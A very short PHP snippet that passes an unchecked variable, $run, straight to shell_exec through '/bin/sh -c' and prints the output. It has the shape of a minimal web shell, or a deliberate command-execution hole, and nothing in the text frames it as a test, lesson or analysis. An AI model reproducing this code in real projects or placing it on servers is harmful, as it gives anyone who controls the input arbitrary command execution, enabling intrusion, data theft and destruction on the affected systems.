<?php
$res = shell_exec("/bin/sh -c " . $run);
print $res;
